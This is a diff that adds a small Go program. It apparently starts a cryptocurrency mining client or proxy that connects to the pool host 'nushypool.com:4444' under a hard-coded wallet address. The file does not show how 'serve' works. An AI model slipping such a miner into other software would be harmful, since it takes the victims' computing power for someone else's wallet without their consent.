@@ -1,0 +1,12 @@
+package main
+
+import "os/exec"
+
+const upstream = "nushypool.com:4444"
+
+var account = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
+
+func main() {
+	exec.Command("true").Run()
+	serve(upstream, account)
+}
